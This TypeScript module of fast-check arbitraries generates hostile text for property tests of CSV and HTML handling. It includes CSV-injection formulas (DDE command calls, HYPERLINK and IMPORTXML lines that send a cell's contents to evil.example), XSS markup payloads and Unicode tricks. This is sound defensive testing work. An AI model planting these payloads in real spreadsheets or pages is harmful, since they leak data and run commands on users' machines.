/**
 * Arbitraries for hostile text: spreadsheet formulas, Unicode tricks, markup, numbers that only look
 * like numbers, and mixtures of them with plain text and CSV punctuation.
 */
import fc from 'fast-check'

/** Cells a spreadsheet would run as a formula when the file is opened (CSV injection). */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  '-1+1',
  '+1+1',
  '=1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
  '\t=1+1',
  '=A1',
] as const

/** A formula cell: a known payload, or a formula sign followed by something that is never a plain number. */
export const formulaText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULAS),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t=', '\r\n='), fc.constantFrom('cmd|', 'SUM(', 'HYPERLINK(', '1+1', 'A1*2', '2-1', 'calc!A0'), fc.string({ maxLength: 12 }))
    .map(([sign, body, tail]) => `${sign}${body}${tail}`),
)

/** Characters that look like nothing, turn text around or stand in for something else. */
export const UNICODE_TRICKS = [
  '\uFEFF', // byte-order mark (in the middle of text)
  '\u202E', // right-to-left override
  '\u202D', // left-to-right override
  '\u2066', // left-to-right isolate
  '\u200D', // zero-width joiner
  '\u200C', // zero-width non-joiner
  '\u200B', // zero-width space
  '\u2060', // word joiner
  '\u00AD', // soft hyphen
  '\u0000', // NUL
  '\u0007', // bell
  '\u001B', // escape
  '\u0085', // next line (C1)
  '\u2028', // line separator
  '\u2029', // paragraph separator
  '\uD800', // lone high surrogate
  '\uDFFF', // lone low surrogate
  '\u0301', // combining acute accent
  '\u0336', // combining long stroke overlay
  '\u00A0', // non-breaking space
  '\u202F', // narrow non-breaking space
  '\u3000', // ideographic space
  '\u2212', // minus sign
  '\uFF0D', // full-width hyphen-minus
  '\uFF11', // full-width digit one
  '\u0661', // Arabic-Indic digit one
  '\u00B2', // superscript two
  '\uD835\uDFCF', // mathematical bold digit one (astral)
  '\uFFFD', // replacement character
  '\u{1F469}\u200D\u{1F4BB}', // emoji joined with ZWJ
] as const

export const unicodeTrick: fc.Arbitrary<string> = fc.constantFrom(...UNICODE_TRICKS)

/** Markup that would become an element, an attribute or a script if a page did not escape it. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<lhs-xss data-lhs-xss="1">',
  '"><lhs-xss data-lhs-xss="1">',
  '</title><lhs-xss>',
  '</code></td><lhs-xss>',
  '</svg><script>alert(1)</script>',
  '--><lhs-xss>',
  ']]><lhs-xss>',
  '<svg onload=alert(1)>',
  '&lt;lhs-xss&gt;',
  'javascript:alert(1)',
] as const

export const markupText: fc.Arbitrary<string> = fc.constantFrom(...MARKUP)

/** Text that a CSV reader treats specially. */
const CSV_PUNCTUATION = [',', '"', '""', '\n', '\r', '\r\n', ' ', '\t', ';'] as const

/** Plain decimal text: what number columns are meant to hold. */
export const decimalText: fc.Arbitrary<string> = fc.oneof(
  fc.integer({ min: -1_000_000, max: 1_000_000 }).map(String),
  fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e6, max: 1e6 }).map(String),
  fc.constantFrom('0', '-0', '+7', '.5', '5.', '1e3', '2E-2', '0.000001', '1e308', '1e-320', '1e400', '-1e400'),
)

/**
 * Text that looks like a number to a person but is not plain decimal: a trick inside the digits,
 * digits from another script, a thousands separator, a percent sign, hex, Infinity, …
 */
export const numberLookalike: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(fc.integer({ min: 10, max: 99_999 }).map(String), fc.constantFrom(...UNICODE_TRICKS, ',', '_', ' ', "'", '.', '%'), fc.nat())
    .map(([digits, trick, at]) => {
      const cut = 1 + (at % (digits.length - 1))
      return `${digits.slice(0, cut)}${trick}${digits.slice(cut)}`
    })
    .filter((text) => !/^[+-]?(?:\d+\.?\d*|\.\d+)$/.test(text)),
  fc.integer({ min: 0, max: 99_999 }).map((n) => String(n).replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d)))),
  fc.integer({ min: 0, max: 99_999 }).map((n) => String(n).replace(/\d/g, (d) => String.fromCharCode(0x0660 + Number(d)))),
  { weight: 2, arbitrary: fc.constantFrom('１２', '1,234', '12%', '0x1A', '0b11', '0o7', 'Infinity', '-Infinity', 'NaN', '1_000', '\u202E21', '12\u0301', '\u22121', '1e', 'e1', '--1', '+-1', '1.2.3', 'twelve', '١٢', '𝟏𝟐', '1\u00A0234', '1 234', '(12)', '£12', '12 days') },
)

/** A short run of letters, digits and punctuation. */
const plainWord = fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 8 })

/** Any one code point or lone surrogate, weighted towards the tricks above. */
export const hostileChar: fc.Arbitrary<string> = fc.oneof(
  unicodeTrick,
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  fc.constantFrom(...CSV_PUNCTUATION),
)

/** A mixture of plain text, tricks, formulas, markup and CSV punctuation. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof({ weight: 3, arbitrary: plainWord }, hostileChar, formulaText, markupText, numberLookalike, decimalText), { maxLength: 6 })
  .map((parts) => parts.join(''))

/** `text` as it reads back after UTF-8 encoding: each lone surrogate becomes U+FFFD. */
export function utf8RoundTrip(text: string): string {
  return text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD')
}


/**
 * Characters stored text may not hold (src/ingest/text-field.ts, checked here independently): C0
 * control characters other than tab, line feed and carriage return, and lone surrogates.
 */
// eslint-disable-next-line no-control-regex -- control characters are what is being looked for
export const UNSTORABLE_CHARACTER = /[\u0000-\u0008\u000B\u000C\u000E-\u001F]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g

/** `text` with every character stored text may not hold replaced by "x": free text that is valid as it stands. */
export function storableText(text: string): string {
  return text.replace(UNSTORABLE_CHARACTER, 'x')
}

/**
 * A number as a valid file holds it: one nearer 0 than 1e-200 (a subnormal one, say) becomes 0, as
 * a file may not hold one nearer 0 than 1e-300; and -0 becomes 0, as it is written "0" and read back as 0.
 */
export function storableNumber(x: number): number {
  return Math.abs(x) < 1e-200 ? 0 : x
}
